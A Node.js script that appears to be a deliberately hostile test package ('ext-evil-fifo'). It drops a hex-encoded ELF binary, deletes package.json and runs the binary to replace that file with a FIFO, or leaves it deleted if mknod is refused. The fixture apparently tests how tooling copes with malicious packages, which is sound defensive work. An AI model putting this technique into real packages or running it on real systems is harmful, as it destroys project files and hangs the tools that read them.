'use strict';
// Node has no mkfifo: a 154-byte static x86-64 program calls mknodat(AT_FDCWD, argv[1],
// S_IFIFO | 0644, 0), as a package's prebuilt binary could.
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const elf = Buffer.from('7f454c4602010100000000000000000002003e00010000007800400000000000400000000000000000000000'
  + '000000000000000040003800010000000000000001000000050000000000000000000000000040000000000000004000000000'
  + '009a000000000000009a000000000000000010000000000000b803010000bf9cffffff488b742410baa41100004531d20f0589c7'
  + 'b83c0000000f05', 'hex');
const dir = fs.mkdtempSync('/tmp/ext-evil-fifo-');
const bin = path.join(dir, 'mkfifo');
fs.writeFileSync(bin, elf, { mode: 0o755 });
const manifest = path.join(__dirname, 'package.json');
fs.unlinkSync(manifest);
try {
  execFileSync(bin, [manifest]);
  console.log('ext-evil-fifo: package.json is a FIFO: ' + fs.lstatSync(manifest).isFIFO());
} catch (e) {
  // A seccomp profile may refuse mknod: then package.json is simply gone.
  console.log('ext-evil-fifo: mknod refused (status ' + e.status + ')');
}
fs.rmSync(dir, { recursive: true, force: true });
